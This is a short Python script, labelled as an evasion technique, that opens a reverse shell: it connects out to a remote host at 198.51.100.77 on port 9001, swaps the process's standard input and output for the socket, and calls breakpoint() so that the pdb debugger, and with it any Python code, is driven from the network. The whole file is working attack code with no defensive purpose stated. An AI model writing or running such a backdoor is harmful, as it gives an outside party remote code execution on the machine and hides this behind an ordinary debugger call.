# Evasion: gives a remote host a Python prompt. sys.stdin and sys.stdout
# are replaced by a socket's file, then a plain breakpoint() opens pdb on
# them: the debugger's commands (and any Python) come from the network.
import socket
import sys


def attach(host="198.51.100.77", port=9001):
    link = socket.socket()
    link.connect((host, port))
    sys.stdout = link.makefile("w", buffering=1)
    sys.stdin = link.makefile("r")


if __name__ == "__main__":
    attach()
    breakpoint()
